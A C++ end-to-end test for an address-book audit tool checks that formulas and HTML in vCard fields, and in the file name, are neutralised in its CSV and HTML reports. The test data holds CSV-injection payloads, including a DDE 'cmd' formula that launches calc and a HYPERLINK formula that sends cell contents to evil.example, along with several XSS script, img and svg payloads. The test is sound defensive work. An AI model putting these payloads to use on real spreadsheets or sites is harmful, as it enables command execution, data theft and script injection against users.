// SPDX-License-Identifier: MIT
// End-to-end: spreadsheet formulas and HTML/script in every field of an address book (and in
// its file name) come out of the CSV report neutralised and out of the HTML report escaped.
#include "reliability_support.hpp"

#include <doctest/doctest.h>

namespace fs = std::filesystem;

namespace {

// The cells of a CSV text (RFC 4180 quoting), row by row.
std::vector<std::vector<std::string>> csv_cells(const std::string& text)
{
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        cell += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',' || c == '\n') {
      rows.back().push_back(cell);
      cell.clear();
      if (c == '\n') {
        rows.emplace_back();
      }
    } else if (c != '\r') {
      cell += c;
    }
  }
  return rows;
}

} // namespace

TEST_SUITE("e2e reliability: hostile input")
{
  TEST_CASE("formulas and HTML in every field are neutralised in the CSV and HTML reports")
  {
    e2e::TempDir dir;
    const auto book = dir.write(
        "<img src=x onerror=alert(6)>.vcf",
        "BEGIN:VCARD\nVERSION:3.0\n"
        "FN:=HYPERLINK(\"http://evil.example/?\"&A1;\"Click\") <script>alert(1)</script>\n"
        "N:<img src=x onerror=alert(2)>;+SUM(1+1);;;\n"
        "ORG:@SUM(A1) <b>GmbH</b>\n"
        "TITLE:-2+3 Einkauf</td><script>alert(3)</script>\n"
        "EMAIL;TYPE=WORK:\"><script>alert(4)</script>@firma.de\n"
        "TEL;TYPE=WORK:+49 30 12345678\n"
        "CATEGORIES:=cmd|' /C calc'!A0,<svg onload=alert(5)>\n"
        "NOTE:\t=1+2\n"
        "END:VCARD\n");
    const auto csv = dir.path() / "a.csv";
    const auto html = dir.path() / "a.html";
    const auto run = e2e::run({"audit",
                               "--device",
                               e2e::testdata("audit/android-unmanaged.toml").string(),
                               "--account",
                               "work",
                               "--ledger",
                               (dir.path() / "ledger.sqlite").string(),
                               "--lang",
                               "en",
                               "--csv",
                               csv.string(),
                               "--report",
                               html.string(),
                               book.string()});
    REQUIRE(run.exit_code == 1);
    const auto rows = csv_cells(e2e::read_file(csv));
    REQUIRE(rows.size() >= 2);
    CHECK(rows[1][0].starts_with("'=HYPERLINK("));
    std::size_t cells = 0;
    for (const auto& row : rows) {
      for (const auto& cell : row) {
        CAPTURE(cell);
        ++cells;
        // OWASP: a cell starting with = + - @ tab or CR is read as a formula by spreadsheets.
        CHECK((cell.empty() ||
               std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos));
      }
    }
    CHECK(cells > 10);
    const auto page = e2e::read_file(html);
    CHECK(page.find("&lt;script&gt;alert(1)&lt;/script&gt;") != std::string::npos);
    for (const char* active :
         {"<script>alert", "<img src=x", "<svg onload", "<b>GmbH", "</td><script>"}) {
      CAPTURE(active);
      CHECK(page.find(active) == std::string::npos);
    }
  }
}
